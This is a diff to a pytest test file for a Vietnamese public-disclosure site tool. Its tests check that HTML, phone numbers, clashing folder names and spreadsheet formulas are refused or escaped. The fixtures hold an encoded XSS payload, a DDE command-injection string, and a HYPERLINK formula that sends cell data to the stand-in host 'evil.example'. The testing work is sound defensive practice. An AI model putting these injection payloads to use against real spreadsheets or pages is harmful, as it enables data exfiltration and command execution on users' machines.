@@ -77,7 +77,7 @@ fields:
 def hostile_site(make_project, monkeypatch):
     """A site built from hostile values with ``check``'s HTML refusal switched off."""
     monkeypatch.setattr(records, "_html_problems", lambda record: [])
-    monkeypatch.setattr(categories, "html_problems", lambda text: [], raising=False)
+    monkeypatch.setattr(categories, "html_problems", lambda text: [])
     root = make_project(
         {
             "disclosures/tiep-cong-dan/2026/lich-thang-05.yml": RECORD,
@@ -249,3 +249,104 @@ def test_active_content_and_renamed_files_are_refused(make_project, name, data, 
     result = run_cli(root, "check")
     assert result.exit_code == 1
     assert result.output.splitlines()[0] == WHERE + message
+
+
+# --- route 4: the category file is checked like a record --------------------------------
+
+NEW_CATEGORY = "disclosures/chuyen-muc-moi/_category.yml"
+
+
+def test_html_in_a_category_file_is_refused_at_its_line(make_project):
+    root = make_project(
+        {NEW_CATEGORY: "title: Chuyên mục mới\ndescription: Mô tả &lt;img src=x onerror=alert(1)&gt;\n"}
+    )
+    result = run_cli(root, "check")
+    assert result.exit_code == 1
+    assert result.output.splitlines()[0] == (
+        f"{NEW_CATEGORY}:2: description: có mã HTML <img> viết bằng mã ký tự (&lt;, &#60;…); bản ghi không "
+        "được chứa HTML, chỉ viết chữ hoặc Markdown"
+    )
+
+
+def test_personal_data_in_a_category_file_is_refused(make_project):
+    root = make_project(
+        {NEW_CATEGORY: "title: Chuyên mục mới\nfields:\n  note: {type: text, label: Ghi chú, help: Gọi 0912 345 678}\n"}
+    )
+    result = run_cli(root, "check")
+    assert result.exit_code == 1
+    assert result.output.splitlines()[0].startswith(
+        f"{NEW_CATEGORY}:3: fields.note.help: có số điện thoại 0912 *** ***"
+    )
+    assert "0912 345 678" not in result.output
+
+
+# --- route 5: a category may not take a path of the site --------------------------------
+
+
+@pytest.mark.parametrize(
+    "slug, what",
+    [
+        ("nhat-ky-cong-khai", "trang nhật ký công khai"),
+        ("danh-muc-thong-tin", "trang danh mục thông tin"),
+        ("tim-kiem", "trang tìm kiếm"),
+        ("assets", "thư mục giao diện (assets)"),
+        ("gioi-thieu", "trang viết tay content/gioi-thieu.md"),
+    ],
+)
+def test_a_category_named_like_a_page_of_the_site_is_refused(make_project, slug, what):
+    root = make_project(
+        {
+            f"disclosures/{slug}/_category.yml": "title: Chuyên mục\n",
+            f"disclosures/{slug}/2026/a.yml": "title: Thông báo\ndocument: {date: 2026-05-05}\n",
+        }
+    )
+    result = run_cli(root, "check")
+    assert result.exit_code == 1
+    assert result.output.splitlines()[0] == (
+        f"disclosures/{slug}/_category.yml:1: category: tên thư mục chuyên mục '{slug}' trùng với đường dẫn "
+        f"/{slug}/ của {what}; hãy đổi tên thư mục chuyên mục"
+    )
+
+
+# --- route 6: no formula in a spreadsheet export -----------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\tThông báo",
+    "\rThông báo",
+]
+
+
+def test_csv_and_xlsx_exports_never_hold_a_formula(make_project):
+    import csv
+
+    from openpyxl import load_workbook
+
+    files = {}
+    for n, text in enumerate(FORMULAS):
+        files[f"disclosures/tuyen-dung/2026/tb-{n}.yml"] = (
+            f"title: {json.dumps(text, ensure_ascii=False)}\nkind: quy-hoach\n"
+            f"document: {{number: {json.dumps(text, ensure_ascii=False)}, date: 2026-05-05}}\n"
+            f"change_note: {json.dumps(text, ensure_ascii=False)}\n"
+        )
+    root = make_project(files)
+    result = run_cli(root, "publish", "--allow-sample", "--deploy-to", str(root / "www"))
+    assert result.exit_code == 0, result.output
+    raw = (root / "www/nhat-ky-cong-khai/publication-log.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    titles = {row["title"] for row in rows}
+    assert {"'" + text for text in FORMULAS[:-1]} <= titles
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    result = run_cli(root, "report", "--year", "2026", "--format", "csv,xlsx", "--out", str(root / "out"))
+    assert result.exit_code == 0, result.output
+    raw = (root / "out/bao-cao-b1-2026.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(raw, newline="")) for cell in row]
+    assert {"'" + text for text in FORMULAS[:-1]} <= set(cells)
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    sheet = load_workbook(root / "out/bao-cao-b1-2026.xlsx").active
+    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
+    assert FORMULAS[0] in values and values[FORMULAS[0]] == "s"
+    assert all(kind != "f" for kind in values.values())
